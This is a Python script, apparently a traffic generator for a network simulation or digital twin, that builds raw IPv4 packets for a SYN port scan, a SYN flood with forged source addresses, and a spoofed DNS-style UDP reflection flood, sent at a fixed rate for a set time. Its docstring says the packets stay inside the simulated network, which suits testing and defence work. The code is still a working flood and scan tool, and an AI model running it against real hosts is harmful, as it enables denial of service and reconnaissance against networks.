"""Sends attack-like packets for a bounded time; a process of the attack faults.

It runs in the namespace of a node and its packets cannot leave the twin. Sources: RFC 791,
RFC 9293, RFC 768; checksums after RFC 1071.
"""

from __future__ import annotations

import random
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from ipaddress import IPv4Address, IPv4Network
from typing import Final

FORGED: Final = IPv4Network("192.0.2.0/24")
SYN, TCP, UDP = 0x02, 6, 17
TICK_S: Final = 0.01
ANSWER: Final = bytes(1100)
"""Payload of a large answer: stays below any MTU."""


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    padded = data + b"\0" * (len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source: IPv4Address, target: IPv4Address, protocol: int, body: bytes) -> bytes:
    """An IPv4 packet; the kernel fills in the identification and the header's checksum."""
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0, 64, protocol, 0)
    return head + source.packed + target.packed + body


def syn(source: IPv4Address, target: IPv4Address, port: int) -> bytes:
    """The first packet of a TCP connection."""
    numbers = (random.randint(1024, 65535), port, random.getrandbits(32), 0)  # noqa: S311
    head = struct.pack("!HHIIBBHHH", *numbers, 0x50, SYN, 64_240, 0, 0)
    pseudo = source.packed + target.packed + struct.pack("!BBH", 0, TCP, len(head))
    body = head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]
    return packet(source, target, TCP, body)


def answer(source: IPv4Address, target: IPv4Address) -> bytes:
    """A large datagram from port 53; UDP over IPv4 may go without a checksum."""
    port = random.randint(1024, 65535)  # noqa: S311  # not a secret
    head = struct.pack("!HHHH", 53, port, 8 + len(ANSWER), 0)
    return packet(source, target, UDP, head + ANSWER)


def packets(kind: str, own: IPv4Address, target: IPv4Address) -> Iterator[bytes]:
    """Without end, of one kind of attack."""
    forged = [FORGED[n] for n in range(1, 255)]
    number = 0
    while True:
        number += 1
        if kind == "scan":
            yield syn(own, target, number % 65_535 + 1)
        elif kind == "syn":
            yield syn(random.choice(forged), target, 443)  # noqa: S311  # not a secret
        else:
            yield answer(random.choice(forged), target)  # noqa: S311  # not a secret


def send(
    source: Iterator[bytes], transmit: Callable[[bytes], object], rate: float, seconds: float
) -> int:
    """Send at most ``rate`` packets a second, evenly; returns how many."""
    start, sent = time.monotonic(), 0
    while (now := time.monotonic() - start) < seconds:
        # Never more than a tick's worth at once, also after a stall.
        for _ in range(min(int(now * rate) - sent, int(rate * TICK_S) + 1)):
            with suppress(OSError):  # no route at the moment: the packet is lost
                transmit(next(source))
            sent += 1
        time.sleep(TICK_S)
    return sent


def own_address(target: IPv4Address) -> IPv4Address:
    """Which address this namespace sends from."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((str(target), 9))
        return IPv4Address(probe.getsockname()[0])


def main() -> None:
    """Arguments: kind, target address, packets a second, seconds."""
    _, kind, address, rate, seconds = sys.argv
    target = IPv4Address(address)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        made = packets(kind, own_address(target), target)
        send(made, lambda data: raw.sendto(data, (address, 0)), float(rate), float(seconds))


if __name__ == "__main__":
    main()
